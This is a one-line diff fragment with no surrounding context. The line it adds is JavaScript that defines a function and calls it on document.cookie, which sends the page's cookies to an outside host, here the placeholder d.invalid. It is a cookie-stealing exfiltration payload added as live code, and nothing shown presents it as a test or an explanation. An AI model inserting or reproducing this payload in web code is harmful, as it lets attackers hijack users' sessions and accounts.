@@ -1,0 +1,1 @@
+function go() { fetch('https://d.invalid/' + arguments[0]); } go(document.cookie);
